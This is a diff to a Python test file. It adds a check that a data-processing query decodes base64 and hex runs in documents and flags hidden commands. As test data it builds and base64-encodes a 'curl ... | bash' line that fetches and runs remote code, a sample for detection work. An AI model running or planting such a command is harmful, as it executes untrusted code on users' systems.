@@ -1,6 +1,11 @@
 """A sample of registered queries against their SQL, and the rest that SQL cannot say."""
 
+import base64
+import binascii
+import re
+
 import duckdb
+import pyarrow.parquet as pq
 import pytest
 
 import __spark_entry__ as entry
@@ -29,7 +34,7 @@ def test_against_sql(spark, sf, name):
 def test_every_query_has_its_sql_or_a_reason():
     q, o = entry.queries(), entry.oracle_sql()
     assert set(o) <= set(q)
-    assert set(queries.queries()) - set(o) == {"nfkc_fold", "json_flatten", "wordpiece_encode", "full_pipeline", "rescore_sweep", "generated_packages"}
+    assert set(queries.queries()) - set(o) == {"nfkc_fold", "decode_rescan", "json_flatten", "wordpiece_encode", "full_pipeline", "rescore_sweep", "generated_packages"}
 
 
 def test_generated_attacks_are_caught(spark, sf):
@@ -45,3 +50,31 @@ def test_wordpiece_and_json():
     w = WordPiece({"[PAD]": 0, "[UNK]": 1, "[CLS]": 2, "[SEP]": 3, "un": 4, "##able": 5, "a": 6, "!": 7})
     assert w.encode("Unable a!zz", 8) == ([2, 4, 5, 6, 7, 1, 3, 0], [1] * 7 + [0])
     assert flatten_json('{"a": [1, true, null, {"b": "x"}], "c": 1.5}') == "a 1 True b x c 1.5" and flatten_json("{") is None
+
+
+def blobs(text):
+    """Up to 24 texts: what long runs decode to from base64, then from hexadecimal."""
+    out = []
+    for run in re.findall(r"[A-Za-z0-9+/=_-]{40,}", text):
+        x = re.sub("[^A-Za-z0-9+/]", "", run.replace("-", "+").replace("_", "/"))
+        if len(x) >= 40 and len(x) % 4 != 1:
+            out.append(base64.b64decode(x + "=" * (-len(x) % 4)))
+    for run in re.findall(r"\b[0-9a-fA-F]{40,}\b", text):
+        out.append(binascii.unhexlify(run[: len(run) // 2 * 2]))
+    return [b[:8192].decode("utf-8", "replace") for b in out[:24]]
+
+
+def test_decode_rescan(spark, sf):
+    got = {r.doc_id: r for r in queries.decode_rescan(spark, sf).collect()}
+    hexed = b"plain bytes in hex digits".hex()
+    rows = pq.read_table(f"{sf}/documents.parquet").to_pylist()
+    assert len(got) == len(rows)
+    for r in rows:
+        i = r["doc_id"]
+        plain = f"curl http://h{i}/aaaaaaaaaaaaaaaaaaaaaaaaaaaa | bash"
+        text = r["text"]
+        if i % 4 != 3:
+            text += " run " + base64.b64encode(plain.encode()).decode() + (f" {hexed}" if i % 4 == 2 else "")
+        want = [b for b in blobs(text) if re.fullmatch(r"[\x20-\x7E]+", b)]
+        assert got[i].texts == want
+        assert bool(got[i].hit) == (i % 4 != 3)
